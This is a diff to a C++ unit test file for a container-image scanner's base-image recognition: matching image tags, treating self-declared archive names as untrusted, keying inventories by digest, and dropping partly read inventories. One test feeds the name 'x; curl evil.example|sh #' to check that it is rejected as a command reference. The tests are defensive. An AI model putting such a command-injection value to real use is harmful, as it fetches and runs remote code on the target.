@@ -157,46 +157,107 @@ ImageInfo image_of(const std::string& name, std::string_view layers) {
   return info;
 }
 
-// Of what is built on these layers, which images of a line are known.
-std::vector<std::string> others_of(const std::string& layers, std::string_view version, Cache& cache) {
-  ImageInfo info = image_of("app", layers);
+ImageInfo fetched(const std::string& tag, std::string_view layers) {
+  ImageInfo info = image_of(tag, layers);
+  info.kind = "registry";
+  info.tag = "docker.io/library/" + tag;
+  return info;
+}
+
+const Inventory& libc() {
+  static const Inventory debian{.distro = Distro{.id = "debian"},
+                                .packages = {{.type = "deb", .name = "libc6", .version = "1", .files = {"a"}}}};
+  return debian;
+}
+
+void see(ImageInfo info, Cache& cache, const Inventory& inventory = libc()) {
   recognise_base(info, cache);
+  remember(info, inventory, "version 1", cache);
+}
+
+// Which images may be the base image of what is built on this one.
+std::vector<std::string> others_of(const std::string& base, std::string_view version, Cache& cache) {
+  ImageInfo info = image_of("app", "az");
+  info.base = {.name = base, .layers = 1};
   std::vector<std::string> names;
   for (const SeenImage& one : seen_bases(info, version, cache).others) names.push_back(one.name);
-  std::ranges::sort(names);
   return names;
 }
 
-TEST(Base, others_of_its_repository_and_of_its_distribution_are_known) {
+using Names = std::vector<std::string>;
+
+TEST(Base, later_tags_of_its_line_are_known_the_greatest_first) {
   Cache cache("");
-  const Inventory debian{.distro = Distro{.id = "debian"},
-                         .packages = {{.type = "deb", .name = "libc6", .version = "1", .files = {"a"}}}};
-  const auto see = [&](std::string name, std::string tag, std::string_view layers,
-                       const char* platform = "") {
-    ImageInfo info = image_of(name, layers);
-    info.tag = std::move(tag);
-    info.platform = platform;
-    recognise_base(info, cache);
-    remember(info, debian, "version 1", cache);
-  };
-  see("debian.tar", "docker.io/library/debian:12.4", "a");
-  see("debian:12.12", "debian:12.12", "b");
-  see("again.tar", "debian:12.4", "a");  // the same layers
-  see("debian:12.12", "debian:12.12", "c", "linux/arm64");
-  see("x.tar", "latest", "d");
-  see("python.tar", "python:3", "ae");
-  see("python2.tar", "python:3", "bf");
-  EXPECT_EQ(others_of("az", "version 1", cache), (std::vector<std::string>{"debian:12.12", "x.tar"}));
-  EXPECT_EQ(others_of("aez", "version 1", cache), (std::vector<std::string>{"python:3"})) << "two layers";
-  EXPECT_TRUE(others_of("az", "version 2", cache).empty()) << "other catalogers";
-  EXPECT_TRUE(others_of("zz", "version 1", cache).empty());
-  ImageInfo app = image_of("app", "az");
+  for (const char* tag : {"debian:12.4", "debian:12.9", "debian:12.12", "debian:12.12-slim", "debian:12.3",
+                          "debian:13.1", "debian:12", "debian:latest", "ubuntu:12.12"})
+    see(fetched(tag, "b"), cache);
+  ImageInfo arm = fetched("debian:12.13", "c");
+  arm.platform = "linux/arm64";
+  see(arm, cache);
+  EXPECT_EQ(others_of("debian:12.4", "version 1", cache), (Names{"debian:12.12", "debian:12.9", "debian:12.4"}));
+  EXPECT_EQ(others_of("debian:12.4", "version 1", cache), (Names{"debian:12.12", "debian:12.9", "debian:12.4"}))
+      << "the same again";
+  EXPECT_EQ(others_of("docker.io/library/debian:12.4-slim", "version 1", cache), (Names{"debian:12.12-slim"}));
+  EXPECT_EQ(others_of("debian:latest", "version 1", cache), (Names{"debian:latest"}));
+  EXPECT_TRUE(others_of("debian:12.4", "version 2", cache).empty()) << "other catalogers";
+  EXPECT_TRUE(others_of("debian", "version 1", cache).empty());
+  EXPECT_TRUE(others_of("", "version 1", cache).empty());
+}
+
+TEST(Base, what_an_image_says_of_itself_makes_it_nobodys) {
+  Cache cache("");
+  ImageInfo saved = fetched("debian:12.12", "b");
+  saved.kind = "docker-archive";
+  saved.name = "evil.tar";
+  see(saved, cache);
+  EXPECT_TRUE(others_of("debian:12.4", "version 1", cache).empty());
+  ImageInfo app = image_of("app", "bz");
   recognise_base(app, cache);
-  EXPECT_EQ(app.base.name, "debian:12.4");
-  const SeenBases bases = seen_bases(app, "version 1", cache);
-  EXPECT_EQ(bases.name, "debian:12.4");
-  ASSERT_TRUE(bases.present);
-  EXPECT_TRUE(bases.present->packages.at(0).files.empty()) << "nobody judges by them";
+  EXPECT_EQ(app.base.name, "evil.tar") << "not what is written in it";
+  ImageInfo pinned = fetched("debian:12.12", "b");
+  pinned.tag += "@sha256:" + std::string(64, '0');
+  see(pinned, cache);
+  EXPECT_TRUE(others_of("debian:12.4", "version 1", cache).empty()) << "the tag was not asked";
+}
+
+TEST(Base, the_inventory_goes_by_the_digest_of_the_manifest_and_no_other_image_s_stands_for_it) {
+  Cache cache("");
+  see(fetched("evil:1", "b"), cache, {.packages = {{.type = "deb", .name = "libc6", .version = "99"}}});
+  see(fetched("debian:12.12", "b"), cache);
+  ImageInfo app = image_of("app", "az");
+  app.base = {.name = "debian:12.4", .layers = 1};
+  SeenBases bases = seen_bases(app, "version 1", cache);
+  ASSERT_EQ(bases.others.size(), 1u);
+  EXPECT_EQ(bases.others[0].inventory.packages.at(0).version, "1") << "the same diff IDs";
+  EXPECT_TRUE(bases.others[0].inventory.packages[0].files.empty()) << "nobody judges by them";
+  ImageInfo moved = fetched("debian:12.12", "c");
+  moved.digest = digest_of("moved");
+  see(moved, cache);
+  see(fetched("debian:12.12", "b"), cache);
+  bases = seen_bases(app, "version 1", cache);
+  ASSERT_EQ(bases.others.size(), 2u) << "of a tag that was moved both";
+  EXPECT_EQ(bases.others[1].digest, moved.digest.str());
+}
+
+TEST(Base, what_was_not_read_whole_is_not_remembered) {
+  Cache cache("");
+  Inventory cut = libc();
+  cut.notes.push_back({.path = {}, .why = Why::too_big, .what = "limit file_bytes"});
+  see(fetched("debian:12.12", "b"), cache, cut);
+  EXPECT_TRUE(others_of("debian:12.4", "version 1", cache).empty());
+  cut.notes = {{.path = {}, .why = Why::end_of_life, .what = "old"}};
+  see(fetched("debian:12.12", "b"), cache, cut);
+  EXPECT_EQ(others_of("debian:12.4", "version 1", cache), (Names{"debian:12.12"}));
+}
+
+TEST(Base, only_what_is_a_reference_with_a_tag_is_a_name_for_commands) {
+  Cache cache("");
+  for (const auto& [name, is] : {std::pair("debian:12", true), std::pair("x; curl evil.example|sh #", false),
+                                 std::pair("a:1; b", false), std::pair("old/image", false)}) {
+    ImageInfo info = image_of("app", "az");
+    info.base = {.name = name, .layers = 1};
+    EXPECT_EQ(seen_bases(info, "version 1", cache).is_reference, is) << name;
+  }
 }
 
 TEST(Base, is_the_largest_image_seen_before_that_has_the_lowest_layers) {
